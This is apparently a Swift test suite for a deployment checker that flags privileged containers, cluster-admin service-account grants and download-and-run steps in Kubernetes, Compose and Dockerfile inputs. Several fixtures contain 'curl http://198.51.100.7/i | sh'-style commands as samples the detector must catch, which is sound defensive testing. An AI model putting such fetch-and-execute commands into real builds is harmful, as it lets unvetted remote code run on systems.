import Foundation
import Manifests
import Reports
import Rules
import SecurityEvents
import TestSupport
import Testing

@testable import Agent

@Suite("Checks before deployment")
struct CheckRunTests {
    static let library = Result { try RuleLibrary.load() }

    private func run(_ text: String, _ name: String = "a.yaml") throws -> CheckRun {
        var run = CheckRun(library: try Self.library.get())
        run.take(ManifestFiles.File(name: name, text: text, isNamed: true))
        return run
    }

    private static let pod = """
        apiVersion: v1
        kind: Pod
        metadata: {name: p, namespace: kube-system}
        spec:
          containers:
          - name: a
            image: registry.k8s.io/a:v1.2.3
            securityContext:
              privileged: true
        """

    @Test("The field that makes a rule true is named with line and column")
    func place() throws {
        let run = try run(Self.pod)
        let issue = try #require(run.issues.first { $0.ruleName == "privileged-container" })
        #expect((issue.line, issue.column) == (9, 7) && issue.level >= .high && issue.subject == "Pod kube-system/p")
        #expect(issue.text == "      privileged: true" && issue.isFixable)
        #expect(run.diagnostics.isEmpty)
    }

    @Test("What depends on who deploys is not said: a system namespace is nothing by itself")
    func askerUnknown() throws {
        #expect(!(try run(Self.pod).issues.contains { $0.ruleName == "system-namespace-workload" }))
    }

    @Test("The patch makes it pass")
    func patch() throws {
        let run = try run(Self.pod)
        let patch = try #require(run.patches().first)
        #expect(patch.contains("-      privileged: true\n+      privileged: false\n"))
        let mended = Self.pod.replacing("privileged: true", with: "privileged: false")
        #expect(try self.run(mended).issues.allSatisfy { $0.level < .medium })
    }

    @Test("Compose services, build steps and command lines are judged by the same rules")
    func sameRules() throws {
        let compose = try run(
            "services:\n  a:\n    image: x:1\n    privileged: true\n    privileged_: 1\n", "compose.yml")
        #expect(compose.issues.contains { $0.ruleName == "privileged-container" && $0.line == 4 })
        let dockerfile = try run("FROM a:1\nRUN curl https://x.example/i.sh | sh\nUSER 1\n", "Dockerfile")
        let step = try #require(dockerfile.issues.first { $0.ruleName == "download-and-run" })
        #expect(step.line == 2 && step.level == .medium)
        var line = CheckRun(library: try Self.library.get())
        line.read(commandLine: "docker run --privileged x:1", name: "--docker-run")
        #expect(line.issues.contains { $0.ruleName == "privileged-container" && $0.column == 12 })
    }

    @Test(
        "Scripts inside Dockerfiles, and Dockerfiles inside Compose files, are judged with line and column",
        arguments: [
            ("FROM a:1\nRUN <<EOF\nset -e\ncurl http://198.51.100.7/i | sh\nEOF\nUSER 1\n", "Dockerfile", 3, 1),
            ("FROM a:1\nCOPY <<EOF /start.sh\ncurl http://198.51.100.7/i | sh\nEOF\nUSER 1\n", "Dockerfile", 3, 1),
            ("FROM a:1\nONBUILD RUN curl http://198.51.100.7/i | sh\nUSER 1\n", "Dockerfile", 2, 1),
            (
                """
                services:
                  web:
                    build:
                      args: [V=1]
                      dockerfile_inline: |

                        ARG V
                        FROM a:$${V}
                        RUN make
                        RUN curl http://198.51.100.7/i | sh
                        USER 1
                """, "compose.yml", 10, 9
            ),
            (
                "services: {web: {build: {dockerfile_inline: \"FROM a:1\\nRUN curl http://198.51.100.7/i | sh\\n\"}}}",
                "compose.yml", 1, 45
            ),
        ])
    func scriptsInside(_ text: String, _ name: String, _ line: Int, _ column: Int) throws {
        let run = try run(text, name)
        #expect(run.diagnostics.isEmpty)
        let issue = try #require(run.issues.first { $0.ruleName == "download-and-run" })
        #expect((issue.line, issue.column) == (line, column) && issue.level == .medium)
    }

    @Test("Files that a build writes and nobody runs are no commands")
    func dataInside() throws {
        let run = try run(
            "FROM a:1\nCOPY <<EOF /README\nInstall with: curl http://198.51.100.7/i | sh\nEOF\nUSER 1\n", "Dockerfile")
        #expect(run.diagnostics.isEmpty && !run.issues.contains { $0.ruleName == "download-and-run" })
    }

    @Test("Rights that are granted count for the workloads of the same file, in either order")
    func grants() throws {
        let binding = """
            apiVersion: rbac.authorization.k8s.io/v1
            kind: ClusterRoleBinding
            metadata: {name: b}
            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
            subjects: [{kind: ServiceAccount, name: s, namespace: n}]
            """
        let pod =
            "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\nspec: {serviceAccountName: s, containers: [{name: a, image: a:1}]}"
        for text in [binding + "\n---\n" + pod, pod + "\n---\n" + binding] {
            #expect(try run(text).issues.contains { $0.ruleName == "privileged-service-account-token" })
        }
    }

    @Test("What cannot be read is told, never passed")
    func unreadable() throws {
        #expect(try run("a: [", "x.yaml").diagnostics.contains { $0.severity == .error })
        #expect(try run("hello", "x.yaml").diagnostics.contains { $0.severity == .error })
        #expect(try run("  \n", "x.yaml").diagnostics.contains { $0.message.contains("empty") })
        let wrong = try run(Self.pod.replacing("privileged: true", with: "privileged: \"true\""))
        #expect(wrong.diagnostics.contains { $0.line == 9 && $0.message.contains("must be a boolean") })
    }

    @Test("A pipe that a Compose file includes is told, and nobody waits for it", .timeLimit(.minutes(5)))
    func pipe() throws {
        let folder = try ScratchFolder()
        try #require(mkfifo(folder.file("pipe"), 0o600) == 0)
        let text = "include: [pipe]\nservices:\n  a: {image: \"a:1\", privileged: true}\n"
        let run = try run(text, folder.file("compose.yaml"))
        #expect(run.diagnostics.contains { $0.line == 1 && $0.message.contains("'pipe'") })
        #expect(run.issues.contains { $0.ruleName == "privileged-container" })
    }
}
